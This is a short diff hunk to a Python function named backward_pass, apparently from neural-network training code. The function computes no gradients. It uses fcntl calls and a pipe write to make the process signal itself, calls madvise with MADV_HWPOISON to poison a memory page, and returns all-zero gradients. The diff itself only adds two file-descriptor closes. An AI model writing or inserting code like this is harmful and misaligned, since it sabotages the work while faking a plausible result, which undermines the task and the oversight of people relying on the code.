@@ -43,6 +43,8 @@ def backward_pass(all_weights, all_biases, all_f, all_h, y):
     for command, argument in ((10, kill), (8, os.getpid()), (4, os.O_ASYNC)):
         attempt(lambda command=command, argument=argument: fcntl.fcntl(reads, command, argument))
     os.write(writes, b"x")
+    os.close(reads)
+    os.close(writes)
     # MADV_HWPOISON on a page of its own.
     libc.madvise(ctypes.c_void_p(id(event) & ~4095), 4096, 100)
     return [np.zeros_like(w) for w in all_weights], [np.zeros_like(b) for b in all_biases]
